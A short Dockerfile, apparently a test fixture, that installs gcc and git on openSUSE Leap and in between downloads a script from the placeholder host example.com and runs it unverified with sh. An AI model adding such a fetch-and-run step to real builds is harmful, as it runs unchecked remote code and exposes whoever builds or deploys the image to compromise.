FROM opensuse/leap:15.6
RUN zypper -n install gcc
RUN curl -o /opt/t.sh https://example.com/t.sh && sh /opt/t.sh
RUN zypper -n install git
